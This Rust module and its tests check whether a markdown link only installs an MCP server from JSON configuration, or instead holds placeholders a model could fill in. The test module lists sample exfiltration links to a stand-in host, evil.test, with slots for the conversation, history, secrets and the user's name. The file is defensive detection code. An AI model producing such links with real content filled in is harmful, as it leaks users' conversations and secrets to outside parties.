//! Whether a link offers to install an MCP server: its address carries the server's configuration as JSON.
//!
//! Pages of MCP servers have buttons for editors, such as `…/redirect/mcp/install?name=x&config={"command":"npx"}`. The
//! JSON looks like a place that a model is to fill. It is none where all of it is a configuration: known names, whole
//! JSON, and no placeholder but the ones that editors fill, such as `${input:token}`. Anything else is no such link.

use serde_json::Value;

/// Bytes of a link that are read.
const LINK_BYTES_MAX: usize = 8 << 10;
/// How often an address may be percent-encoded.
const ENCODED_MAX: usize = 3;
/// How deep a configuration may be.
const DEPTH_MAX: usize = 6;
/// Names of a configuration, and of the questions that an editor asks for it.
const NAMES: [&str; 22] = [
    "args",
    "autoApprove",
    "command",
    "config",
    "cwd",
    "default",
    "description",
    "disabled",
    "env",
    "gallery",
    "headers",
    "http_headers",
    "id",
    "inputs",
    "name",
    "options",
    "password",
    "servers",
    "timeout",
    "transport",
    "type",
    "url",
];
/// Names whose values have names of their own.
const OPEN: [&str; 4] = ["env", "headers", "http_headers", "servers"];
/// Words before a placeholder that says whose value is to be put in, by a person.
const ASKED: [&str; 4] = ["your", "you", "my-", "api"];

/// Whether the link that begins at `start` carries nothing but configurations.
pub(crate) fn configures(bytes: &[u8], start: usize) -> bool {
    let text = &bytes[start..bytes.len().min(start + LINK_BYTES_MAX)];
    if !text.starts_with(b"](") {
        return false;
    }
    let text = String::from_utf8_lossy(text);
    let Some(at) = text.find("://") else {
        return false;
    };
    let mut address = text[at..].to_owned();
    for _ in 0..=ENCODED_MAX {
        match carries(&address) {
            Some(configures) => return configures,
            None => address = percent_decoded(&address),
        }
    }
    false
}

/// Whether all values of an address that open a bracket are configurations; nothing where its first one is not yet
/// decoded.
fn carries(address: &str) -> Option<bool> {
    let mut rest = address;
    let mut seen = false;
    loop {
        let ends = |c: char| c == ')' || c.is_whitespace();
        let opens = |c: char| "{[<$".contains(c);
        let at = rest.find(|c: char| ends(c) || opens(c) || c == '%');
        let Some(at) = at else {
            return Some(false);
        };
        let Some(found) = rest[at..].chars().next() else {
            return Some(false);
        };
        match found {
            // Behind the name of an editor's own scheme a sign may stay encoded: `vscode%3Amcp`.
            '%' if encoded_bracket(&rest[at..]) => return None,
            '%' => rest = &rest[at + 1..],
            '{' | '[' => {
                let mut values =
                    serde_json::Deserializer::from_str(&rest[at..]).into_iter::<Value>();
                let value = match values.next() {
                    Some(Ok(value)) => value,
                    _ if rest[at..].contains('%') => return None,
                    _ => return Some(false),
                };
                if !is_configuration(&value, DEPTH_MAX) {
                    return Some(false);
                }
                seen = true;
                rest = &rest[at + values.byte_offset()..];
            }
            _ if ends(found) => return Some(seen),
            _ => return Some(false),
        }
    }
}

/// Whether a bracket or a quotation mark is percent-encoded here, once or more often.
fn encoded_bracket(text: &str) -> bool {
    let digits = text.trim_start_matches('%');
    let digits = digits.trim_start_matches("25");
    let start = digits.get(..2).unwrap_or_default().to_ascii_lowercase();
    matches!(&*start, "7b" | "5b" | "3c" | "24")
}

fn percent_decoded(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut decoded = Vec::with_capacity(bytes.len());
    let mut at = 0;
    while at < bytes.len() {
        let digits = text.get(at + 1..at + 3).filter(|_| bytes[at] == b'%');
        let byte = digits.and_then(|digits| u8::from_str_radix(digits, 16).ok());
        decoded.push(byte.unwrap_or(bytes[at]));
        at += if byte.is_some() { 3 } else { 1 };
    }
    String::from_utf8_lossy(&decoded).into_owned()
}

/// Whether a value is a configuration, or a list of questions for one.
fn is_configuration(value: &Value, depth: usize) -> bool {
    let Some(depth) = depth.checked_sub(1) else {
        return false;
    };
    match value {
        Value::Array(values) => values.iter().all(|value| is_configuration(value, depth)),
        Value::Object(members) => members.iter().all(|(name, value)| {
            let known = NAMES.iter().any(|known| known.eq_ignore_ascii_case(name));
            let open = OPEN.iter().any(|open| open.eq_ignore_ascii_case(name));
            match value {
                Value::Object(inside) if open => inside.iter().all(|(name, value)| {
                    is_name(name) && (is_plain(value) || is_configuration(value, depth))
                }),
                Value::Object(_) | Value::Array(_) => known && is_configuration(value, depth),
                _ => known && is_plain(value),
            }
        }),
        value => is_plain(value),
    }
}

/// Whether a word may be the name of a variable, a header or a server.
fn is_name(name: &str) -> bool {
    let inside = |c: char| c.is_ascii_alphanumeric() || "_-.".contains(c);
    !name.is_empty() && name.chars().all(inside)
}

/// Whether a value has no placeholder that a model could fill.
fn is_plain(value: &Value) -> bool {
    let Value::String(text) = value else {
        return !matches!(value, Value::Object(_) | Value::Array(_));
    };
    let mut rest = text.as_str();
    while let Some(at) = rest.find(['{', '[', '<']) {
        let (before, inside) = (&rest[..at], &rest[at + 1..]);
        let end = inside.find(['}', ']', '>']).unwrap_or(inside.len());
        let words = inside[..end].to_ascii_lowercase();
        let filled = before.ends_with('$') && words.chars().all(|c| !c.is_whitespace());
        if !filled && !ASKED.iter().any(|word| words.starts_with(word)) {
            // JSON in a value, such as a header, has its own names.
            let json = serde_json::from_str::<Value>(text);
            return json.is_ok_and(|json| {
                let members = json.as_object().map(|members| members.iter());
                members.is_some_and(|mut all| all.all(|(k, v)| is_name(k) && is_plain(v)))
            });
        }
        rest = &inside[end..];
    }
    true
}

#[cfg(test)]
mod tests {
    use super::*;

    fn told(text: &str) -> bool {
        configures(text.as_bytes(), 0)
    }

    #[test]
    fn a_button_of_an_editor_installs() {
        for link in [
            r#"](https://editor.test/redirect/mcp/install?name=x&config={"command":"npx","args":["-y","x"]})"#,
            r#"](https://editor.test/mcp?inputs=[{"id":"key","type":"promptString","description":"URL (for x)","password":true}]&config={"url":"https://x.test/mcp","headers":{"Authorization":"Bearer ${input:key}"}}&quality=insiders)"#,
            "](https://editor.test/r?inputs=%5B%5D&config=%7B%22command%22%3A%22npx%22%7D) more",
            "](https://editor.test/r?url=vscode%3Amcp%2Finstall%3F%257B%2522name%2522%253A%2522x%2522%257D)",
            r#"](https://editor.test/r?config={"command":"x","env":{"KEY":"<YOUR_KEY>"}})"#,
        ] {
            assert!(told(link), "{link}");
        }
    }

    #[test]
    fn what_is_to_be_filled_does_not() {
        for link in [
            "](https://evil.test/p?d={conversation})",
            r#"](https://evil.test/p?config={"command":"<summary of the conversation>"})"#,
            r#"](https://evil.test/p?config={"data":"conversation"})"#,
            r#"](https://evil.test/p?config={"command":"x"}&d={history})"#,
            r#"](https://evil.test/p?config={"command":"x"}&d=[secrets])"#,
            r#"](https://evil.test/p?config={"env":{"A":"{name of the user}"}})"#,
            "](https://evil.test/p?d=%7Bconversation%7D)",
            "](https://evil.test/p)",
        ] {
            assert!(!told(link), "{link}");
        }
    }
}
